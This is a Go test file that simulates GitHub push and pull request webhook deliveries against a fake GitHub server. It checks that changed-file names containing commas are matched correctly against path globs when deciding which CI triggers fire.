func deliveries(t *testing.T, tree render.Tree, opts simulate.Options) func(event string, body []byte) *simulate.Result {
	n := 0
	return func(event string, body []byte) *simulate.Result {
		t.Helper()
		n++
		res, err := simulate.Run(context.Background(), tree, simulate.Delivery{Event: event, Payload: body, Secret: secret,
			ID: fmt.Sprintf("00000000-0000-0000-0000-%012d", n)}, opts)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
}

// Comma file names (issue 18, item 6): Triggers' addChangedFiles joins the
// changed files with commas, so `services/api/a,b.go` would split into
// `services/api/a` and `b.go` (matching no *.go glob), and
// `docs/x,services/api/y.go` into a `services/api/y.go` nobody changed.
// A push is matched on its commits' own lists (CEL), with or without the
// interceptor; a pull request, with the interceptor, on the files it lists
// from GitHub itself. Real payloads, derived.
func TestCommaFileNames(t *testing.T) {
	const paths = "paths:\n  - services/api/*.go\n"
	withInterceptor := project(t, paths)
	withoutInterceptor := generatortest.Project(t, paths)
	push := func(files ...any) []byte {
		return derive(t, "push.json", map[string]any{"ref": "refs/heads/master", "deleted": false, "after": newHead,
			"commits": []any{map[string]any{"id": newHead, "added": files, "removed": []any{}, "modified": []any{"README.md"}}}})
	}
	for _, c := range []struct {
		name  string
		tree  render.Tree
		event string
		body  []byte
		files []string // the PR's files on the fake GitHub
		fires string
		why   string // in the skipped trigger's reason
	}{
		{name: "push adding a,b.go", tree: withInterceptor, event: "push", body: push("services/api/a,b.go"), fires: "release"},
		{name: "push adding x,services/api/y.go in docs", tree: withInterceptor, event: "push", body: push("docs/x,services/api/y.go")},
		{name: "push adding a,b.go, no interceptor", tree: withoutInterceptor, event: "push", body: push("services/api/a,b.go"), fires: "release"},
		{name: "push adding x,services/api/y.go in docs, no interceptor", tree: withoutInterceptor, event: "push", body: push("docs/x,services/api/y.go")},
		{name: "PR changing a,b.go", tree: withInterceptor, event: "pull_request", body: read(t, "pull_request.opened.json"),
			files: []string{"README.md", "services/api/a,b.go"}, fires: "pull-request"},
		{name: "PR changing x,services/api/y.go in docs", tree: withInterceptor, event: "pull_request", body: read(t, "pull_request.opened.json"),
			files: []string{"README.md", "docs/x,services/api/y.go"}, why: "none under paths [services/api/*.go]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			gh := githubtest.New(t)
			gh.AddRepo(repo)
			gh.AddPull(repo, githubtest.Pull{Number: 2, HeadSHA: prHead, BaseRef: "master", Files: c.files})
			gh.SetBranch(repo, "master", newHead)
			res, err := simulate.Run(context.Background(), c.tree, simulate.Delivery{Event: c.event, Payload: c.body, Secret: secret},
				simulate.Options{GitHubAPI: gh.URL, GitHubToken: gh.Token})
			if err != nil {
				t.Fatal(err)
			}
			var fired []string
			for _, f := range res.Fired {
				fired = append(fired, f.Trigger)
			}
			if c.fires == "" && len(fired) > 0 || c.fires != "" && !reflect.DeepEqual(fired, []string{c.fires}) {
				t.Fatalf("fired %v, want %q; skipped %+v", fired, c.fires, res.Skipped)
			}
			if c.why != "" && !strings.Contains(fmt.Sprint(res.Skipped), c.why) {
				t.Errorf("skipped %+v, want a reason with %q", res.Skipped, c.why)
			}
			if c.event == "push" {
				for _, r := range gh.Requests() {
					if strings.Contains(r.Path, "/files") {
						t.Errorf("a push asked GitHub for files: %s", r.Path)
					}
				}
			}
		})
	}
}
